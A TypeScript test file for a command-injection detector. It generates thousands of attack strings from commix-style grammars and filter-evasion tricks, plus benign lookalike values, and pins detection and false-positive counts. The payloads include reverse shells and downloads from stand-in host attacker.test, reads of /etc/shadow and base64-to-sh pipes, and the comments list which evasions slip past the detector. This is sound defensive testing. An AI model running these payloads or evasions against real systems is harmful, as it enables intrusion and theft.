@@ -1,0 +1,227 @@
+// Round 10: a combinatorial command-injection sweep generated from the published grammar of commix (its break-out
+// prefixes, separators, suffixes, whitespace substitutions and its classic / eval / time / file-based payload
+// templates) and the usual filter-evasion cheat sheets (${IFS}, $IFS$9, {cmd,arg}, quotes and backslashes inside
+// words, $@, unset variables, base64 and rev pipes, redirection instead of space; Windows ^ carets, "" splits,
+// %VAR:~x,y% substrings, , ; as argument delimiters), written from those tools' documentation, none from the
+// development corpus. A sweep of ordinary values of the same shapes (apostrophes, quotes, & and | in titles,
+// Markdown backticks, lists and code-like prose) measures false positives. Counts and misses are pinned below.
+import { describe, it, expect, beforeAll, afterAll } from 'vitest';
+import { createDetector, type Detector } from '../../src/index.js';
+
+let d1: Detector;
+let d2: Detector;
+beforeAll(async () => { d1 = await createDetector({ paranoia: 1 }); d2 = await createDetector({ paranoia: 2 }); });
+afterAll(async () => { await d1.close(); await d2.close(); });
+
+const blocked = (d: Detector, p: string): boolean => d.scan(p, { context: 'query' }).blocked;
+
+// ---- unix commands, with and without arguments (recon, read, sleep/ping timing, download, reverse shells)
+export const UNIX = ['id', 'whoami', 'uname -a', 'cat /etc/passwd', 'ls', 'pwd', 'sleep 5', 'ping -c 5 127.0.0.1',
+  'nslookup x.attacker.test', 'curl http://attacker.test/x', 'nc -e /bin/sh attacker.test 4444', 'echo vulnerable'];
+// (more commands, crossed with the prefixes and separators only)
+export const UNIX_MORE = ['wget http://attacker.test/s -O /tmp/s', 'cat /etc/shadow', 'ifconfig', 'ps aux', 'rm -rf /tmp/x', 'touch /tmp/pwned',
+  'netstat -an', 'head /etc/passwd', 'sh -c id', 'bash -i', 'python -c "import os"', 'perl -e "print 1"', 'hostname', 'env', 'uname', 'ls -la /',
+  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'php -r "system(\'id\');"', 'ruby -e "exit"', 'busybox nc attacker.test 4444 -e sh'];
+
+// ---- commix: prefixes (nothing, a value, a quote that opens or closes one) x separators x commands x suffixes
+export const PREFIXES = ['', '1', 'x', '127.0.0.1', "'", '"', "1'", '1"', "x'", 'x"'];
+export const SEPARATORS = [';', ' ; ', '|', ' | ', '||', '&', '&&', ' && ', '\n', '%0a', '%0d%0a', '%3b', '%26%26', '`', '$('];
+export const SUFFIXES = ['', '#', ' #', "'", '"', ';', '|', '&', '\n'];
+
+function wrap(sep: string, cmd: string): string {
+  if (sep === '`') return `\`${cmd}\``;
+  if (sep === '$(') return `$(${cmd})`;
+  return sep + cmd;
+}
+
+export function commixGrid(): string[] {
+  const out: string[] = [];
+  for (const pre of PREFIXES) for (const sep of SEPARATORS) for (const cmd of UNIX) for (const suf of SUFFIXES) out.push(pre + wrap(sep, cmd) + suf);
+  for (const pre of PREFIXES) for (const sep of SEPARATORS) for (const cmd of UNIX_MORE) out.push(pre + wrap(sep, cmd) + (pre.endsWith("'") ? "'" : pre.endsWith('"') ? '"' : ''));
+  return [...new Set(out)];
+}
+
+// ---- filter evasion: each command rewritten by each obfuscation, after a few separators
+const b64 = (s: string): string => Buffer.from(s).toString('base64');
+type Obf = (name: string, args: string) => string | null;
+export const OBFUSCATIONS: Array<[string, Obf]> = [
+  ['plain', (n, a) => n + (a ? ' ' + a : '')],
+  ['${IFS}', (n, a) => (a ? `${n}\${IFS}${a.replaceAll(' ', '${IFS}')}` : null)],
+  ['$IFS$9', (n, a) => (a ? `${n}$IFS$9${a.replaceAll(' ', '$IFS$9')}` : null)],
+  ['tab', (n, a) => (a ? `${n}\t${a.replaceAll(' ', '\t')}` : null)],
+  ['%09', (n, a) => (a ? `${n}%09${a.replaceAll(' ', '%09')}` : null)],
+  ['brace', (n, a) => (a && !/["' ]{2}|"/.test(a) ? `{${n},${a.replaceAll(' ', ',')}}` : null)],
+  ['redirect', (n, a) => (a.startsWith('/') && !a.includes(' ') ? `${n}<${a}` : null)],
+  ["w'h'o", (n, a) => (n.length >= 2 ? `${n[0]}'${n[1]}'${n.slice(2)}` + (a ? ' ' + a : '') : null)],
+  ['w"h"o', (n, a) => (n.length >= 2 ? `${n[0]}"${n[1]}"${n.slice(2)}` + (a ? ' ' + a : '') : null)],
+  ['w\\ho', (n, a) => (n.length >= 2 ? `${n[0]}\\${n.slice(1)}` + (a ? ' ' + a : '') : null)],
+  ['$@', (n, a) => (n.length >= 2 ? `${n[0]}$@${n.slice(1)}` + (a ? ' ' + a : '') : null)],
+  ['${u}', (n, a) => (n.length >= 2 ? `${n.slice(0, -1)}\${u}${n.slice(-1)}` + (a ? ' ' + a : '') : null)],
+  ['$u', (n, a) => `${n}$u` + (a ? ' ' + a : '')],
+  ['/usr/bin', (n, a) => `/usr/bin/${n}` + (a ? ' ' + a : '')],
+  ['base64', (n, a) => `echo ${b64(n + (a ? ' ' + a : ''))}|base64 -d|sh`],
+  ['rev', (n, a) => `echo '${[...(n + (a ? ' ' + a : ''))].reverse().join('')}'|rev|bash`],
+  ['$(printf)', (n, a) => `$(printf '${[...n].map((ch) => '\\x' + ch.charCodeAt(0).toString(16)).join('')}')` + (a ? ' ' + a : '')],
+];
+const OBF_CMDS: Array<[string, string]> = [['id', ''], ['whoami', ''], ['uname', '-a'], ['cat', '/etc/passwd'], ['ls', '-la'], ['sleep', '5'],
+  ['ping', '-c 5 127.0.0.1'], ['nc', '-e /bin/sh attacker.test 4444'], ['wget', 'http://attacker.test/s'], ['curl', 'attacker.test/x'],
+  ['head', '/etc/shadow'], ['nslookup', 'x.attacker.test'], ['echo', 'vulnerable'], ['pwd', '']];
+const OBF_SEPS = ['', ';', '|', '&&', '%0a', "';", '"|', '`', '$(', "'`", '"$('];
+
+export function obfuscationGrid(): string[] {
+  const out: string[] = [];
+  for (const [n, a] of OBF_CMDS) for (const [, f] of OBFUSCATIONS) {
+    const body = f(n, a);
+    if (body === null) continue;
+    for (const s of OBF_SEPS) {
+      if (s.endsWith('`')) out.push(`${s}${body}\``);
+      else if (s.endsWith('$(')) out.push(`${s}${body})`);
+      else out.push(s + body);
+    }
+  }
+  return [...new Set(out)];
+}
+
+// ---- Windows (cmd.exe, PowerShell): separators x commands x caret / quote / substring / delimiter obfuscations
+const WIN: Array<[string, string]> = [['whoami', ''], ['dir', 'c:\\'], ['type', 'C:\\Windows\\win.ini'], ['ipconfig', '/all'], ['net', 'user'],
+  ['systeminfo', ''], ['ping', '-n 5 127.0.0.1'], ['timeout', '/t 5'], ['tasklist', ''], ['cmd', '/c whoami'], ['powershell', '-c Get-Process'],
+  ['certutil', '-urlcache -f http://attacker.test/a.exe a.exe'], ['nslookup', 'x.attacker.test'], ['ver', ''], ['hostname', ''], ['net', 'localgroup administrators']];
+const WIN_OBF: Array<(n: string, a: string) => string> = [
+  (n, a) => n + (a ? ' ' + a : ''),
+  (n, a) => [...n].join('^') + (a ? ' ' + a : ''),
+  (n, a) => `${n.slice(0, 1)}""${n.slice(1)}` + (a ? ' ' + a : ''),
+  (n, a) => n + (a ? '%ProgramFiles:~10,1%' + a.replaceAll(' ', '%ProgramFiles:~10,1%') : ''),
+  (n, a) => n + (a ? ',' + a.replaceAll(' ', ',') : ''),
+];
+const WIN_PREFIXES = ['', '1', '127.0.0.1', '"', "'"];
+const WIN_SEPS = ['&', '&&', '|', '||', '%0a', '%26', '\r\n'];
+
+export function windowsGrid(): string[] {
+  const out: string[] = [];
+  for (const pre of WIN_PREFIXES) for (const sep of WIN_SEPS) for (const [n, a] of WIN) for (const f of WIN_OBF) out.push(pre + sep + f(n, a));
+  return [...new Set(out)];
+}
+
+// ---- commix's technique templates (classic echo of an arithmetic tag, eval-based, time-based if/else, file-based)
+// with its whitespace substitutions (%20, +, ${IFS}, $IFS$9, %09) after its separators and quote prefixes
+const TECHNIQUES = [
+  'echo QWERTY$((13+29))$(echo QWERTY)QWERTY',
+  'echo QWERTY$(expr 13 + 29)QWERTY',
+  'str=$(echo QWERTY);str1=${#str};if [ 6 -ne $str1 ];then sleep 0;else sleep 5;fi',
+  'sleep 5',
+  'echo QWERTY > /var/www/html/qwerty.txt',
+  'str=$(id|tr \'\\n\' \' \');echo $str > /tmp/o.txt',
+  'print(`echo QWERTY`)',
+  'for i in $(seq 1 5);do sleep 1;done',
+];
+const WS = [' ', '%20', '+', '${IFS}', '$IFS$9', '%09'];
+const TECH_SEPS = [';', '|', '||', '&&', '%0a', '&'];
+
+export function techniqueGrid(): string[] {
+  const out: string[] = [];
+  for (const t of TECHNIQUES) for (const ws of WS) for (const sep of TECH_SEPS) for (const pre of ['', "'", '"']) {
+    out.push(pre + sep + t.replaceAll(' ', ws) + (pre === '' ? '' : ' #'));
+  }
+  return [...new Set(out)];
+}
+
+// ---- ordinary values of the same shapes
+const WORDS = ['sleep', 'date', 'time', 'type', 'sort', 'find', 'head', 'tail', 'more', 'less', 'cat', 'dog', 'echo', 'touch', 'test',
+  'print', 'make', 'kill', 'wait', 'join', 'split', 'name', 'user', 'who', 'which', 'file', 'free', 'top', 'watch', 'yes', 'true', 'set', 'host', 'link'];
+// (the other slots take ordinary nouns: two command words side by side, "sort | tail", "Date; sort", are pipelines and lists
+// of commands, not ordinary values)
+const NOUNS = ['price', 'color', 'size', 'notes', 'garden', 'coffee', 'music', 'family', 'travel', 'status', 'amount', 'summer', 'email'];
+const cap = (w: string): string => w[0]!.toUpperCase() + w.slice(1);
+const BENIGN_SHAPES: Array<(a: string, b: string, c: string) => string> = [
+  (a, b) => `${cap(a)} & ${cap(b)}`,
+  (a, b, c) => `${cap(a)} | ${cap(b)} | ${cap(c)}`,
+  (a) => `It's ${a} time`,
+  (a) => `O'Neil's ${a}`,
+  (a, b) => `"${cap(a)}" and "${b}"`,
+  (a) => `the \`${a}\` field is optional`,
+  (a, b, c) => `${cap(a)}; ${b}; ${c}`,
+  (a, b) => `${a}/${b}`,
+  (a, b) => `Q&A: ${a} or ${b}?`,
+  (a) => `Rock 'n' ${cap(a)}`,
+  (a, b) => `${a}-${b}`,
+  (a, b) => `'${a}' or '${b}'`,
+  (a) => `Price: $5 & up (${a})`,
+  (a) => `We'll ${a} at 5`,
+  (a, b, c) => `${cap(a)}, ${b} && ${c}`,
+  (a, b) => `${cap(a)}\n${cap(b)}`,
+  (a, b) => `"${a}'s ${b}"`,
+  (a, b) => `${cap(a)} & ${b} (2 pack)`,
+  (a, b) => `Tom's ${a} & ${b}`,
+  (a, b) => `see \`${a}\` and \`${b}\` below`,
+  (a) => `"${cap(a)}"`,
+  (a) => `'${a}'`,
+  (a, b) => `${a} | ${b}`,
+  (a) => `#${a} #tips`,
+  (a, b) => `${cap(a)} (and ${b})`,
+  (a, b) => `Don't ${a}; ${b} instead`,
+  (a, b) => `${cap(a)}: 5 min | ${cap(b)}: 10 min`,
+  (a, b) => `"${a}", "${b}"`,
+  (a) => `I'd ${a} it 5/5`,
+  (a, b) => `${a}=${b}&page=2`,
+];
+
+export function benignGrid(): string[] {
+  const out: string[] = [];
+  for (let i = 0; i < WORDS.length; i++) for (const shape of BENIGN_SHAPES) {
+    out.push(shape(WORDS[i]!, NOUNS[i % NOUNS.length]!, NOUNS[(i + 5) % NOUNS.length]!));
+  }
+  return [...new Set(out)];
+}
+
+function measure(d: Detector, all: string[], wantBlocked: boolean): string[] {
+  return all.filter((p) => blocked(d, p) !== wantBlocked);
+}
+
+describe('cmdi sweeps (generated, round 10)', () => {
+  it('commix prefixes x separators x commands x suffixes', () => {
+    const all = commixGrid();
+    expect(all.length).toBe(COUNTS.commix);
+    const m = measure(d1, all, true);
+    expect(m.length, `missed:\n${m.slice(0, 200).map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(MISSES.commix);
+  });
+  it('filter evasions x commands x separators', () => {
+    const all = obfuscationGrid();
+    expect(all.length).toBe(COUNTS.obf);
+    const m = measure(d1, all, true);
+    expect(m.length, `missed:\n${m.map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(MISSES.obf);
+  });
+  it('Windows separators x commands x obfuscations', () => {
+    const all = windowsGrid();
+    expect(all.length).toBe(COUNTS.windows);
+    const m = measure(d1, all, true);
+    expect(m.length, `missed:\n${m.map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(MISSES.windows);
+  });
+  it('commix technique templates x whitespace x separators x quotes', () => {
+    const all = techniqueGrid();
+    expect(all.length).toBe(COUNTS.technique);
+    const m = measure(d1, all, true);
+    expect(m.length, `missed:\n${m.map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(MISSES.technique);
+  });
+  it('ordinary values of the same shapes (paranoia 1 and 2)', () => {
+    const all = benignGrid();
+    expect(all.length).toBe(COUNTS.benign);
+    const f1 = measure(d1, all, false);
+    expect(f1.length, `flagged:\n${f1.map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(BENIGN_FLAGGED.p1);
+    const f2 = measure(d2, all, false);
+    expect(f2.length, `flagged p2:\n${f2.map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(BENIGN_FLAGGED.p2);
+  });
+});
+
+// Measured on the unchanged build when written (round 10): commix grid 18,702/19,200, evasions 2,250/2,321, Windows
+// 2,100/2,450, commix techniques 864/864; ordinary values 2/1,020 flagged at paranoia 1, 18/1,020 at paranoia 2. The misses:
+// - 424 commix: a no-argument command with '#' glued to it (;id# |pwd# &&uname#): the shell starts a comment only at the
+//   start of a word, so the command word is `id#` (not found); cmd.exe has no '#' comment. Cannot work: left alone.
+// - 74 commix, 44 evasions: a quote opening the value, then a backtick substitution ('`sleep 5`, "`pwd`, '`s'l'eep 5`).
+//   Inside "..." the substitution runs whatever quote precedes it (echo "'`id`'"): genuine.
+// - 350 Windows: a comma between the command and its arguments after & | or a newline (&dir,c:\ |net,user): cmd.exe reads
+//   , ; = there as spaces. Genuine for cmd's own commands (dir, type, cmd /c) and still running the program for the others.
+// - 27 evasions: a command with no separator at all ("id", "sleep 5", "echo vulnerable", "curl attacker.test/x", "pwd$u"):
+//   the value is a command only where the whole field is run as one; these words alone are ordinary text. Left alone.
+const COUNTS = { commix: 19200, obf: 2321, windows: 2450, technique: 864, benign: 1020 };
+const MISSES = { commix: 498, obf: 71, windows: 350, technique: 0 };
+const BENIGN_FLAGGED = { p1: 2, p2: 18 };
